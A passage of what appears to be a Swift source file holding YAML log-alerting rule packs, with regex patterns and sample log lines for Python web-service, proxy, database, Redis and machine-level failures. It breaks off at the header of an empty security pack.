            - '2026-11-23 06:50:48,123 ERROR [profile] [8165e189] profile lookup failed user_id=7'

      - id: writes-failing
        title: Writes fail again and again
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [write-failed]
          group-by: [logger]
          timespan: 1m
          condition: {gte: 3}
        generate: true
        message: '{logger}: {count} writes failed within a minute'
        tags: [data]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [profile] [a1] profile save failed user_id=7
              2026-11-23 06:50:49,101 ERROR [profile] [a2] profile save failed user_id=9
              2026-11-23 06:51:20,101 ERROR [profile] [a3] profile save failed user_id=4
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [profile] [a1] profile save failed user_id=7
              2026-11-23 06:55:49,101 ERROR [profile] [a2] profile save failed user_id=9

      - id: payment-failed
        title: A payment failed
        severity: P2
        status: stable
        on: message
        pattern: >-
          (?i)\b(?:payment|charge|checkout|refund|invoice)s?\b(?: \w+){0,3} (?:failed|unavailable|timed out)\b|\bfailed to
          (?:charge|refund|pay)\b
        where: 'level >= error'
        message: '{logger}: a payment failed'
        group-by: [logger]
        tags: [payment]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [shop] [8165e189] payment lookup failed payment_id=7'
            - '2026-11-23 06:50:48,123 ERROR [shop] [8165e189] order failed: payment unavailable order_id=7'
          miss:
            - '2026-11-23 06:50:48,123 INFO [shop] [8165e189] payment served payment_id=7'
            - '2026-11-23 06:50:48,123 WARNING [shop] [8165e189] payment failed: card declined'

      - id: payments-failing
        title: Payments fail, one after another
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [payment-failed]
          timespan: 30s
          condition: {gte: 3}
        generate: true
        message: '{count} payments failed within 30 s'
        tags: [payment]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [shop] [a1] order failed: payment unavailable order_id=7
              2026-11-23 06:50:49,101 ERROR [shop] [a2] order failed: payment unavailable order_id=9
              2026-11-23 06:50:52,101 ERROR [bills] [a3] payment lookup failed payment_id=4
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [shop] [a1] order failed: payment unavailable order_id=7
              2026-11-23 06:52:49,101 ERROR [shop] [a2] order failed: payment unavailable order_id=9

      - id: db-query-failed
        title: A query failed
        severity: P2
        status: stable
        on: message
        pattern: '(?i)\bquery failed\b|\bdatabase (?:connection )?(?:lost|error|unavailable)\b'
        where: 'level >= error'
        message: '{logger}: queries fail'
        group-by: [logger]
        tags: [database]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [db] [8165e189] query failed query=orders ms=12.0'
          miss:
            - '2026-11-23 06:50:48,123 WARNING [db] [8165e189] slow query orders took 207.4 ms'

      # Proxies

      - id: upstream-answer-missing
        title: A proxy got no proper answer from the service
        description: nginx, Envoy. It waited in vain, was refused, or the service broke off.
        severity: P2
        status: stable
        pattern: >-
          upstream timed out \(110: |upstream request timeout|connect\(\) failed \(\d+: [^)]+\) while connecting to
          upstream|upstream prematurely closed connection|upstream sent (?:too big header|invalid header|no valid
          HTTP)|(?:504|408) (?:Gateway|Request) Time-?[Oo]ut\b
        tags: [proxy, nginx, envoy, timeout]
        samples:
          hit:
            - >-
              2026/11/23 06:47:55 [error] 7#7: *1 upstream timed out (110: Connection timed out) while reading response
              header from upstream, client: 10.0.0.7, server: example.org, request: "GET /orders HTTP/1.1"
            - >-
              2026/11/23 06:47:55 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream,
              client: 10.0.0.7, server: example.org, request: "GET / HTTP/1.1", upstream: "http://127.0.0.1:8000/"
            - >-
              2026/11/23 06:47:55 [error] 7#7: *1 upstream prematurely closed connection while reading response header from
              upstream
            - 'httpx.HTTPStatusError: Server error ''504 Gateway Timeout'' for url ''https://api.example.org/orders'''
          miss:
            - '2026/11/23 06:47:55 [info] 7#7: *1 client 10.0.0.7 closed keepalive connection'
            - '2026/11/23 06:47:55 [notice] 7#7: gracefully shutting down'

      - id: upstream-answers-missing
        title: A proxy gets no proper answers, again and again
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [upstream-answer-missing]
          timespan: 30s
          condition: {gte: 5}
        generate: true
        message: '{count} requests got no proper answer from behind the proxy within 30 s'
        tags: [proxy, timeout]
        samples:
          hit:
            - |
              2026/11/23 06:47:51 [error] 7#7: *1 upstream timed out (110: Connection timed out)
              2026/11/23 06:47:52 [error] 7#7: *2 upstream timed out (110: Connection timed out)
              2026/11/23 06:47:53 [error] 7#7: *3 upstream timed out (110: Connection timed out)
              2026/11/23 06:47:54 [error] 7#7: *4 upstream timed out (110: Connection timed out)
              2026/11/23 06:47:55 [error] 7#7: *5 upstream timed out (110: Connection timed out)
          miss:
            - |
              2026/11/23 06:47:51 [error] 7#7: *1 upstream timed out (110: Connection timed out)
              2026/11/23 06:49:52 [error] 7#7: *2 upstream timed out (110: Connection timed out)

      - id: proxy-no-server
        title: The proxy has no server left
        description: Every request is answered by the proxy itself, with an error.
        severity: P0
        status: stable
        pattern: 'has no server available!|no live upstreams while connecting to upstream|no healthy upstream'
        tags: [proxy, haproxy, nginx, envoy]
        samples:
          hit:
            - 'Nov 23 06:47:55 lb haproxy[7]: backend app has no server available!'
            - '2026/11/23 06:47:55 [error] 7#7: *1 no live upstreams while connecting to upstream, client: 10.0.0.7'
          miss:
            - 'Nov 23 06:47:55 lb haproxy[7]: Server app/web1 is UP, reason: Layer7 check passed, code: 200'
    """##

  private static let pythonWeb = ##"""
    pack: python-web
    title: Python web services
    description: Tracebacks, asyncio, uvicorn, gunicorn, SQLAlchemy, database drivers, Redis, HTTP clients, Celery

    rules:
      # Exceptions. Single ones are notes: what makes them urgent is how many, and what they stop.

      - id: python-traceback
        title: Traceback
        severity: P3
        status: stable
        pattern: 'Traceback \(most recent call last\):'
        message: 'tracebacks by {logger}'
        group-by: [logger]
        tags: [python, exception]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [orders] [-] order lookup failed order_id=7
              Traceback (most recent call last):
                File "/srv/app/orders.py", line 12, in get
              LookupError: 7
            - '  + Exception Group Traceback (most recent call last):'
          miss:
            - '2026-11-23 06:50:48,123 INFO [orders] [-] traceback reporting is on'

      - id: python-exception
        title: Exceptions by type
        severity: P3
        status: stable
        pattern: '^[ |+]*(?:[A-Za-z_]\w*\.)*(?<exc_type>[A-Z]\w*(?:Error|Exception|Timeout|Interrupt|Exhausted))(?::|$)'
        message: '{exc_type} was raised'
        group-by: [exc_type]
        tags: [python, exception]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [orders] [-] order lookup failed order_id=7
              Traceback (most recent call last):
                File "/srv/app/orders.py", line 12, in get
              app.errors.OrderError: order 7 is locked
            - '    | ValueError: month must be in 1..12'
            - 'httpx.ReadTimeout'
          miss:
            - '2026-11-23 06:50:48,123 WARNING [orders] [-] error budget at 80 %'
            - '  File "/srv/app/errors.py", line 3, in LookupError'

      - id: python-bug
        title: An exception that only a bug raises
        description: These types mean that the code is wrong, not that the world is. Look for the release that brought it.
        severity: P2
        status: stable
        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|ZeroDivision|Index|Recursion)Error)(?::|$)'
        message: '{exc_type} in the code'
        group-by: [exc_type]
        tags: [python, exception, release]
        falsepositives:
          - a library that raises TypeError or IndexError for bad input
        samples:
          hit:
            - |
              ERROR:    Exception in ASGI application
              Traceback (most recent call last):
                File "/srv/app/orders.py", line 12, in total
              TypeError: unsupported operand type(s) for +: 'int' and 'NoneType'
            - 'RecursionError: maximum recursion depth exceeded while calling a Python object'
          miss:
            - 'ConnectionError: [Errno 110] Connection timed out'
            - 'TypeErrors are counted by the linter'

      - id: python-bug-loses-write
        title: A bug makes a write fail
        description: >-
          A write was reported as failed, and what failed it is a bug: the next one like it fails too, and its data is lost.
          Roll back, or keep that input away.
        severity: P1
        status: stable
        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|ZeroDivision|Index|Recursion)Error)(?::|$)'
        where: >-
          level >= error and
          message ~ "(?i)\b(save|store|write|update|insert|commit|delete|upload|create)\b( [a-z]+){0,3}
          failed|(failed|unable|could not) (to )?(save|store|write|update|insert|commit|delete|upload|create)\b"
        message: '{logger}: a write fails with {exc_type}'
        group-by: [logger]
        tags: [python, exception, data, release]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [profile] [8165e189] profile save failed user_id=7
              Traceback (most recent call last):
                File "/srv/app/profile.py", line 12, in save
              TypeError: Object of type date is not JSON serializable
            - |
              2026-11-23 06:50:48,123 ERROR [carts] [8165e189] failed to update cart 7
              Traceback (most recent call last):
                File "/srv/app/carts.py", line 31, in update
              AttributeError: 'NoneType' object has no attribute 'items'
          miss:
            - |
              2026-11-23 06:50:48,123 ERROR [profile] [8165e189] profile save failed user_id=7
              Traceback (most recent call last):
                File "/srv/app/profile.py", line 12, in save
              ConnectionResetError: [Errno 104] Connection reset by peer
            - |
              2026-11-23 06:50:48,123 ERROR [profile] [8165e189] profile lookup failed user_id=7
              Traceback (most recent call last):
                File "/srv/app/profile.py", line 40, in get
              TypeError: 'NoneType' object is not subscriptable

      - id: python-unhandled-in-request
        title: An exception that no handler caught ended a request
        description: uvicorn and hypercorn, Flask, Django. The client got a plain 500.
        severity: P2
        status: stable
        pattern: 'Exception in ASGI application|^Exception on \S+ \[[A-Z]+\]|^Internal Server Error: /'
        tags: [python, exception, uvicorn, flask, django]
        samples:
          hit:
            - 'ERROR:    Exception in ASGI application'
            - '[2026-11-23 06:47:55,003] ERROR in app: Exception on /orders [GET]'
            - 'ERROR 2026-11-23 06:47:55,003 [8165e189] django.request: Internal Server Error: /orders/7'
          miss:
            - 'INFO:     Started server process [26313]'
            - '2026-11-23 06:50:48,123 INFO [docs] [-] page served title="Internal Server Error explained"'

      - id: python-memory-error
        title: Python could not get memory
        severity: P1
        status: stable
        pattern: '^[ |+]*(?:\w+\.)*_?(?:Array)?MemoryError(?::|$)'
        tags: [python, memory]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [export] [-] export failed
              Traceback (most recent call last):
                File "/srv/app/export.py", line 9, in rows
              MemoryError
            - 'numpy._core._exceptions._ArrayMemoryError: Unable to allocate 7.45 GiB for an array with shape (1000000000,)'
          miss:
            - '2026-11-23 06:50:48,123 INFO [export] [-] MemoryErrors so far: 0'

      # asyncio

      - id: asyncio-task-lost
        title: A task failed or vanished, and nobody looked
        description: >-
          What the task was to do is not done. Keep the task, and await it or give it a done callback; a coroutine that was
          never awaited did not even begin.
        severity: P2
        status: stable
        pattern: >-
          (?:Task|Future) exception was never retrieved|Task was destroyed but it is pending!|coroutine '[^']+' was never
          awaited
        tags: [python, asyncio]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [asyncio] [-] Task exception was never retrieved'
            - 'ERROR:asyncio:_GatheringFuture exception was never retrieved'
            - 'ERROR:asyncio:Task was destroyed but it is pending!'
            - '/srv/app/mail.py:31: RuntimeWarning: coroutine ''send_receipt'' was never awaited'
          miss:
            - '2026-11-23 06:50:48,123 INFO [worker] [-] the result of task 7 was never retrieved'
            - '2026-11-23 06:50:48,123 INFO [worker] [-] Task was cancelled while it was pending'

      - id: asyncio-slow-callback
        title: Something blocked the event loop
        description: In debug mode asyncio names callbacks of more than 100 ms. All other requests waited that long.
        severity: P3
        status: stable
        pattern: 'Executing <(?:Task|Handle|TimerHandle).{1,400} took (?<seconds>\d+\.\d+) seconds'
        message: 'the event loop stood still for {seconds} s'
        tags: [python, asyncio, slow]
        samples:
          hit:
            - >-
              WARNING:asyncio:Executing <Task pending name='Task-7' coro=<report() running at /srv/app/report.py:40>>
              took 1.204 seconds
          miss:
            - 'INFO:worker:Executing <Report 7> on worker 2'

      # uvicorn, gunicorn

      - id: gunicorn-worker-timeout
        title: gunicorn killed a worker that did not answer
        severity: P2
        status: stable
        pattern: 'WORKER TIMEOUT \(pid:(?<pid>\d+)\)'
        message: 'worker {pid} did not answer in time'
        tags: [python, gunicorn]
        samples:
          hit:
            - '[2026-11-23 06:50:48 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7214)'
          miss:
            - '[2026-11-23 06:50:48 +0000] [7310] [INFO] Booting worker with pid: 7310'

      - id: worker-killed
        title: A worker was killed, perhaps for its memory
        description: gunicorn and Celery (billiard).
        severity: P1
        status: stable
        pattern: >-
          Worker \(pid:\d+\) was sent SIGKILL!|Worker with pid \d+ was terminated due to signal 9|Worker exited
          prematurely: signal (?:9|11)
        tags: [python, gunicorn, celery, memory]
        falsepositives:
          - a worker that gunicorn itself killed after WORKER TIMEOUT
        samples:
          hit:
            - '[2026-11-23 06:50:48 +0000] [7] [ERROR] Worker (pid:21) was sent SIGKILL! Perhaps out of memory?'
            - '[2026-11-23 06:50:48 +0000] [7] [WARNING] Worker with pid 14824 was terminated due to signal 9'
            - 'billiard.exceptions.WorkerLostError: Worker exited prematurely: signal 9 (SIGKILL) Job: 7.'
          miss:
            - '[2026-11-23 06:50:48 +0000] [7] [WARNING] Worker with pid 14824 was terminated due to signal 15'
            - '[2026-11-23 06:50:48 +0000] [21] [INFO] Worker exiting (pid: 21)'

      - id: gunicorn-boot-failed
        title: gunicorn cannot start the application
        description: The master gives up; nothing serves.
        severity: P0
        status: stable
        pattern: 'Worker failed to boot\.|App failed to load\.'
        tags: [python, gunicorn, start]
        samples:
          hit:
            - '[2026-11-23 06:50:48 +0000] [7] [ERROR] Reason: Worker failed to boot.'
            - 'gunicorn.errors.HaltServer: <HaltServer ''App failed to load.'' 4>'
          miss:
            - '[2026-11-23 06:50:48 +0000] [21] [INFO] Booting worker with pid: 21'

      - id: server-address-in-use
        title: The port is taken
        severity: P1
        status: stable
        pattern: '(?i)address already in use|^Connection in use: \('
        tags: [start, uvicorn, gunicorn]
        samples:
          hit:
            - >-
              ERROR:    [Errno 98] error while attempting to bind on address ('0.0.0.0', 8000): address already in use
            - '[2026-11-23 06:50:48 +0000] [7] [ERROR] Connection in use: (''0.0.0.0'', 8000)'
            - 'OSError: [Errno 98] Address already in use'
          miss:
            - '2026-11-23 06:50:48,123 INFO [users] [-] that mail address is already used'

      - id: server-invalid-request
        title: Something that is not HTTP came in
        severity: P3
        status: stable
        pattern: 'Invalid HTTP request received\.|^Invalid request from ip='
        tags: [uvicorn, gunicorn]
        falsepositives: ['TLS spoken to a plain port, port scanners']
        samples:
          hit:
            - 'WARNING:  Invalid HTTP request received.'
            - '[2026-11-23 06:50:48 +0000] [21] [WARNING] Invalid request from ip=10.0.0.7: Invalid HTTP request line'
          miss:
            - '2026-11-23 06:50:48,123 WARNING [forms] [-] invalid request: field email is missing'

      # SQLAlchemy

      - id: sqlalchemy-pool-timeout
        title: SQLAlchemy found no free connection in its pool
        description: Connections are held too long or leak, or the pool is too small for the load.
        severity: P1
        status: stable
        pattern: 'QueuePool limit of size (?<size>\d+) overflow (?<overflow>\d+) reached'
        message: 'the pool of {size} connections (and {overflow} more) was empty'
        tags: [database, pool, sqlalchemy]
        samples:
          hit:
            - >-
              2026-11-23 06:50:48,123 ERROR [db] [-] QueuePool limit of size 5 overflow 10 reached,
              connection timed out, timeout 30.00
          miss:
            - '2026-11-23 06:50:48,123 INFO [db] [-] QueuePool opened size=5 overflow=10'

      - id: sqlalchemy-pending-rollback
        title: A session was used after its transaction had failed
        description: An exception was swallowed without a rollback; all that the session does from then on fails.
        severity: P2
        status: stable
        pattern: 'PendingRollbackError|transaction has been rolled back due to a previous exception'
        tags: [database, sqlalchemy]
        samples:
          hit:
            - >-
              sqlalchemy.exc.PendingRollbackError: Can't reconnect until invalid transaction is rolled back.
              (Background on this error at: https://sqlalche.me/e/20/8s2b)
            - 'This Session''s transaction has been rolled back due to a previous exception during flush.'
          miss:
            - '2026-11-23 06:50:48,123 INFO [sqlalchemy.engine.Engine] [-] ROLLBACK'

      # PostgreSQL and MySQL, as their drivers and their own logs say it

      - id: db-connection-closed
        title: The database closed a connection
        severity: P2
        status: stable
        pattern: >-
          server closed the connection unexpectedly|SSL connection has been closed unexpectedly|SSL SYSCALL
          error:|terminating connection due to administrator command|Lost connection to MySQL server|MySQL server has
          gone away
        tags: [database, postgresql, mysql]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [db] [8165e189] order lookup failed
              psycopg2.OperationalError: server closed the connection unexpectedly
            - 'psycopg.OperationalError: consuming input failed: SSL SYSCALL error: EOF detected'
            - 'psycopg2.errors.AdminShutdown: terminating connection due to administrator command'
            - 'pymysql.err.OperationalError: (2006, "MySQL server has gone away (BrokenPipeError(32, ''Broken pipe''))")'
          miss:
            - '2026-11-23 06:50:48,123 INFO [db] [-] server closed 3 idle connections'

      - id: db-refuses-connections
        title: The database takes no more connections
        description: It is down or starting, or all its connections are taken.
        severity: P1
        status: stable
        pattern: >-
          the database system is (?:starting up|shutting down|in recovery mode|not accepting)|connection to server at
          "[^"]+"(?: \([^)]*\))?, port \d+ failed: Connection refused|Can't connect to (?:local )?MySQL server|sorry, too
          many clients already|remaining connection slots are reserved for|too many connections for
          (?:role|database)|\(1040, ["']Too many connections|no more connections allowed \(max_client_conn\)
        tags: [database, postgresql, mysql, pgbouncer]
        samples:
          hit:
            - 'FATAL:  the database system is starting up'
            - 'connection to server at "db" (10.0.0.9), port 5432 failed: Connection refused'
            - 'pymysql.err.OperationalError: (2003, "Can''t connect to MySQL server on ''db'' ([Errno 111] refused)")'
            - 'psycopg2.OperationalError: FATAL:  sorry, too many clients already'
            - 'FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute'
            - 'pymysql.err.OperationalError: (1040, ''Too many connections'')'
          miss:
            - 'LOG:  database system is ready to accept connections'
            - '2026-11-23 06:50:48,123 INFO [db] [-] max_connections is 100, 12 clients connected'

      - id: db-transaction-ended
        title: The database ended a transaction
        description: A deadlock, a conflict with another transaction, or a wait that was too long. It has to be tried again.
        severity: P2
        status: stable
        pattern: >-
          deadlock detected|Deadlock found when trying to get lock|could not serialize access due to|canceling statement
          due to (?:statement|lock) timeout|Lock wait timeout exceeded
        tags: [database, postgresql, mysql, slow]
        samples:
          hit:
            - 'psycopg2.errors.DeadlockDetected: deadlock detected'
            - 'psycopg.errors.SerializationFailure: could not serialize access due to concurrent update'
            - 'psycopg2.errors.QueryCanceled: canceling statement due to statement timeout'
            - 'pymysql.err.OperationalError: (1205, ''Lock wait timeout exceeded; try restarting transaction'')'
          miss:
            - 'LOG:  process 9 acquired ShareLock on transaction 12 after 1003.1 ms'
            - 'ERROR:  canceling statement due to user request'

      # Redis

      - id: redis-unavailable
        title: Redis cannot be used
        description: It cannot be reached, or still reads its data.
        severity: P2
        status: stable
        pattern: >-
          Error -?\d+ (?:while )?connecting to \S+:\d+\.|redis\.exceptions\.(?:Connection|Timeout)Error|Redis is loading
          the dataset in memory
        tags: [redis]
        samples:
          hit:
            - 'redis.exceptions.ConnectionError: Error 111 connecting to cache:6379. Connection refused.'
            - '2026-11-23 06:50:48,123 ERROR [cache] [-] Error -2 connecting to cache:6379. Name or service not known.'
            - 'redis.exceptions.BusyLoadingError: Redis is loading the dataset in memory'
          miss:
            - '2026-11-23 06:50:48,123 INFO [cache] [-] connecting to cache:6379'
            - '1:M 23 Nov 2026 06:50:48.123 * DB loaded from disk: 0.002 seconds'

      - id: redis-refuses-writes
        title: Redis refuses to write
        description: A replica instead of the primary (READONLY), no memory left (OOM), or snapshots that fail (MISCONF).
        severity: P1
        status: stable
        pattern: >-
          You can't write against a read only (?:replica|slave)|command not allowed when used memory > 'maxmemory'|Redis is
          configured to save RDB snapshots, but
        tags: [redis]
        samples:
          hit:
            - 'redis.exceptions.ReadOnlyError: You can''t write against a read only replica.'
            - 'redis.exceptions.OutOfMemoryError: command not allowed when used memory > ''maxmemory''.'
            - '(error) MISCONF Redis is configured to save RDB snapshots, but it''s currently unable to persist to disk.'
          miss:
            - '1:M 23 Nov 2026 06:50:48.123 * Background saving started by pid 7392'

      # HTTP clients

      - id: python-http-call-failed
        title: A call to another service timed out, or was tried as often as it may
        description: httpx, requests, urllib3.
        severity: P2
        status: stable
        pattern: >-
          (?:httpx|httpcore|requests\.exceptions)\.(?:Connect|Read|Write|Pool)Timeout\b|Read timed out\. \(read
          timeout=|\bMax retries exceeded with url
        group-by: [logger]
        tags: [python, client, timeout]
        samples:
          hit:
            - 'httpx.ConnectTimeout'
            - 'HTTPSConnectionPool(host=''api.example.org'', port=443): Read timed out. (read timeout=25)'
            - >-
              requests.exceptions.ConnectionError: HTTPSConnectionPool(host='api.example.org', port=443):
              Max retries exceeded with url: /v1/orders (Caused by NewConnectionError('refused'))
          miss:
            - '2026-11-23 06:50:48,123 INFO [client] [-] ReadTimeout is set to 25 s, max retries is 3'
    """##

  private static let runtime = ##"""
    pack: runtime
    title: Process and machine
    description: Memory, files, disks, names, certificates, connections, crashes

    rules:
      # Memory and processes

      - id: oom-killed
        title: A process was killed for its memory
        severity: P1
        status: stable
        pattern: >-
          ut of memory: Killed process \d+|invoked oom-killer:|\bOOMKilled\b|exited with (?:exit )?(?:code|status)
          137\b|\b[Ee]xit [Cc]ode:? 137\b
        tags: [memory, kernel, container]
        falsepositives: ['exit code 137 is any SIGKILL, as after a stop that took too long']
        samples:
          hit:
            - 'Nov 23 06:47:54 host kernel: Out of memory: Killed process 4711 (python) total-vm:9000kB, anon-rss:800kB'
            - 'Nov 23 06:47:54 host kernel: Memory cgroup out of memory: Killed process 4711 (python) total-vm:9000kB'
            - 'Nov 23 06:47:54 host kernel: python invoked oom-killer: gfp_mask=0xcc0(GFP_KERNEL), order=0'
            - 'web-1 exited with code 137'
          miss:
            - 'Nov 23 06:47:54 host kernel: Memory: 8052464K/8388056K available'
            - 'web-1 exited with code 0'

      - id: memory-exhausted
        title: No memory or no more threads were to be had
        severity: P1
        status: stable
        pattern: >-
          Cannot allocate memory|java\.lang\.OutOfMemoryError|JavaScript heap out of memory|std::bad_alloc|fatal error: out
          of memory|can't start new thread|unable to create (?:new )?native thread
        tags: [memory, threads]
        samples:
          hit:
            - 'OSError: [Errno 12] Cannot allocate memory'
            - 'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space'
            - 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'
            - 'RuntimeError: can''t start new thread'
          miss:
            - '2026-11-23 06:50:48,123 INFO [cache] [-] allocated 12 MB of memory'
            - '2026-11-23 06:50:48,123 INFO [worker] [-] started a new thread'

      - id: crashed
        title: A process crashed
        severity: P1
        status: stable
        pattern: >-
          segfault at [0-9a-f]+ ip|\(core dumped\)|^Fatal Python error: |SIGSEGV: segmentation violation|runtime error:
          (?:invalid memory address|index out of range|slice bounds)|^fatal error: (?:concurrent map|all goroutines are
          asleep)|^thread '[^']*' (?:\(\d+\) )?panicked at
        tags: [crash, kernel, python, go, rust]
        samples:
          hit:
            - 'Nov 23 06:47:54 host kernel: python[4711]: segfault at 0 ip 00007f2a1c sp 00007ffc9 error 4 in libc.so.6'
            - 'Fatal Python error: Segmentation fault'
            - 'panic: runtime error: invalid memory address or nil pointer dereference'
            - 'thread ''main'' panicked at src/main.rs:7:5:'
          miss:
            - 'Nov 23 06:47:54 host systemd-coredump[7]: core dumps are off'
            - '2026-11-23 06:50:48,123 INFO [ui] [-] no reason to panic: the list is empty'

      # Files and disks

      - id: too-many-open-files
        title: No more files can be opened
        description: Connections count as files. Look for a leak before raising the limit.
        severity: P1
        status: stable
        pattern: '(?i)too many open files'
        tags: [files]
        samples:
          hit:
            - 'OSError: [Errno 24] Too many open files'
            - '2026/11/23 06:47:55 [crit] 7#7: accept4() failed (24: Too many open files)'
          miss:
            - '2026-11-23 06:50:48,123 INFO [app] [-] open files: 12 of 1024'

      - id: disk-full
        title: The disk is full
        severity: P1
        status: stable
        pattern: '(?i)no space left on device|disk quota exceeded'
        tags: [disk]
        samples:
          hit:
            - 'OSError: [Errno 28] No space left on device: ''/var/lib/app/upload.tmp'''
          miss:
            - '2026-11-23 06:50:48,123 INFO [disk] [-] 40 GB left on device sda1'

      - id: disk-error
        title: The disk has errors, or takes no writes
        severity: P1
        status: stable
        pattern: >-
          Buffer I/O error on dev|\bI/O error, dev \w+, sector|EXT4-fs error \(device|\[Errno 5\] Input/output
          error|Read-only file system|Remounting filesystem read-only
        tags: [disk, kernel]
        samples:
          hit:
            - 'Nov 23 06:47:54 host kernel: blk_update_request: I/O error, dev sda, sector 4711 op 0x0:(READ)'
            - 'OSError: [Errno 30] Read-only file system: ''/var/lib/app'''
            - 'Nov 23 06:47:54 host kernel: EXT4-fs (sda1): Remounting filesystem read-only'
          miss:
            - '2026-11-23 06:50:48,123 INFO [disk] [-] 0 I/O errors on sda, /mnt/archive is mounted read-only'

      # Network: names, certificates, connections

      - id: dns-failed
        title: A name was not found
        severity: P2
        status: stable
        pattern: >-
          Name or service not known|Temporary failure in name resolution|nodename nor servname provided|getaddrinfo
          (?:ENOTFOUND|EAI_AGAIN) |\bno such host\b|server misbehaving$|could not translate host name
        tags: [network, dns]
        samples:
          hit:
            - 'socket.gaierror: [Errno -2] Name or service not known'
            - 'Error: getaddrinfo EAI_AGAIN api.example.org'
            - 'dial tcp: lookup db.internal on 10.0.0.2:53: no such host'
          miss:
            - '2026-11-23 06:50:48,123 INFO [dns] [-] name resolution took 3 ms'

      - id: tls-certificate-expired
        title: A certificate has expired
        severity: P1
        status: stable
        pattern: 'certificate has expired|[Cc]ertificate expired|CERT_HAS_EXPIRED|ERR_CERT_DATE_INVALID'
        tags: [network, tls]
        samples:
          hit:
            - '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: certificate has expired (_ssl.c:1006)'
            - 'tls: failed to verify certificate: x509: certificate has expired or is not yet valid'
          miss:
            - '2026-11-23 06:50:48,123 INFO [tls] [-] the certificate expires in 60 days'

      - id: tls-refused
        title: A certificate or a TLS handshake was refused
        severity: P2
        status: stable
        pattern: >-
          certificate verify failed|CERTIFICATE_VERIFY_FAILED|x509: certificate|PKIX path building
          failed|SSL_do_handshake\(\) failed|TLS handshake error from|alert handshake failure
        tags: [network, tls]
        falsepositives: ['scanners, and clients that are too old']
        samples:
          hit:
            - 'ssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self-signed'
            - 'tls: failed to verify certificate: x509: certificate signed by unknown authority'
            - '2026/11/23 06:47:55 [crit] 7#7: *1 SSL_do_handshake() failed (SSL: error:0A000119:SSL routines)'
            - 'ssl.SSLError: [SSL: SSLV3_ALERT_HANDSHAKE_FAILURE] sslv3 alert handshake failure (_ssl.c:1006)'
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [tls] [-] TLS handshake done in 3 ms, certificate verified'

      - id: connection-refused
        title: A connection was refused
        severity: P2
        status: stable
        pattern: '\b[Cc]onnection refused\b|\bECONNREFUSED\b'
        group-by: [logger]
        tags: [network]
        samples:
          hit:
            - 'ConnectionRefusedError: [Errno 111] Connection refused'
            - 'Error: connect ECONNREFUSED 127.0.0.1:5432'
          miss:
            - '2026-11-23 06:50:48,123 INFO [net] [-] connection accepted'

      - id: connection-reset
        title: The other side broke a connection off
        severity: P3
        status: stable
        pattern: '(?<!["''])\b[Cc]onnection reset by peer\b|\bECONNRESET\b|\bBroken pipe\b|\bRemoteDisconnected\b'
        group-by: [logger]
        tags: [network]
        samples:
          hit:
            - 'ConnectionResetError: [Errno 104] Connection reset by peer'
          miss:
            - '2026-11-23 06:50:48,123 INFO [net] [-] connection closed by peer'
            - '    raise ConnectionResetError(104, "Connection reset by peer")'

      - id: connections-failing
        title: Connections fail, again and again
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [connection-refused, connection-reset, dns-failed]
          timespan: 10s
          condition: {gte: 20}
        generate: true
        message: '{count} connections failed within 10 s'
        tags: [network]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [client] [a0] [Errno 111] Connection refused
              2026-11-23 06:50:48,201 ERROR [client] [b1] [Errno 111] Connection refused
              2026-11-23 06:50:48,301 ERROR [client] [c2] [Errno 111] Connection refused
              2026-11-23 06:50:48,401 ERROR [client] [d3] [Errno 111] Connection refused
              2026-11-23 06:50:48,501 ERROR [client] [e4] [Errno 111] Connection refused
              2026-11-23 06:50:48,601 ERROR [client] [f5] [Errno 111] Connection refused
              2026-11-23 06:50:48,701 ERROR [client] [g6] [Errno 111] Connection refused
              2026-11-23 06:50:48,801 ERROR [client] [h7] [Errno 111] Connection refused
              2026-11-23 06:50:48,901 ERROR [client] [i8] [Errno 111] Connection refused
              2026-11-23 06:50:49,001 ERROR [client] [j9] [Errno 111] Connection refused
              2026-11-23 06:50:49,101 ERROR [client] [k10] [Errno 111] Connection refused
              2026-11-23 06:50:49,201 ERROR [client] [l11] [Errno 111] Connection refused
              2026-11-23 06:50:49,301 ERROR [client] [m12] [Errno 111] Connection refused
              2026-11-23 06:50:49,401 ERROR [client] [n13] [Errno 111] Connection refused
              2026-11-23 06:50:49,501 ERROR [client] [o14] [Errno 111] Connection refused
              2026-11-23 06:50:49,601 ERROR [client] [p15] [Errno 111] Connection refused
              2026-11-23 06:50:49,701 ERROR [client] [q16] [Errno 111] Connection refused
              2026-11-23 06:50:49,801 ERROR [client] [r17] [Errno 111] Connection refused
              2026-11-23 06:50:49,901 ERROR [client] [s18] [Errno 111] Connection refused
              2026-11-23 06:50:50,001 ERROR [client] [t19] [Errno 111] Connection refused
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [client] [a1] [Errno 111] Connection refused
              2026-11-23 06:50:58,101 ERROR [client] [a2] [Errno 104] Connection reset by peer
    """##

  private static let security = ##"""
    pack: security
    title: Security
    description: Probing, injection attempts, guessed passwords, secrets that were logged

    rules:
